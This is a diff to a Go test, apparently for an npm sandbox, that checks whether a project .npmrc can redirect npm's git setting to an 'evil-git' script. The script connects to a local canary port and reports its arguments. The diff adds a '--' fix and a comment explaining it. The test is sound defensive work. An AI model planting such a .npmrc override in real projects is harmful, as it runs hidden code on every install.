@@ -160,7 +160,9 @@ func TestProjectNpmrcExecSettings(t *testing.T) {
 		b := newPMBox(t, m)
 		canary := regStartCanary(t)
 		dead, _ := loopbackListener(t) // accepts and closes: git fails at once
-		evil := fmt.Sprintf("#!/bin/sh\nexec node -e \"require('net').connect(%d,'127.0.0.1',function(){this.end('PBOX-EVIL-GIT '+process.argv.join(' '))})\" \"$@\"\n", canary.Port)
+		// "--": without it node took git's first argument (--no-replace-objects) for
+		// its own option and exited before reaching the canary.
+		evil := fmt.Sprintf("#!/bin/sh\nexec node -e \"require('net').connect(%d,'127.0.0.1',function(){this.end('PBOX-EVIL-GIT '+process.argv.join(' '))})\" -- \"$@\"\n", canary.Port)
 		writeFile(t, filepath.Join(b.Project, "evil-git"), evil, 0o755)
 		writeProjectFile(t, b, ".npmrc", "git="+filepath.Join(b.Project, "evil-git")+"\n")
 		r := b.tool("", "npm", "install", fmt.Sprintf("git+ssh://git@127.0.0.1:%d/x/y.git", dead))
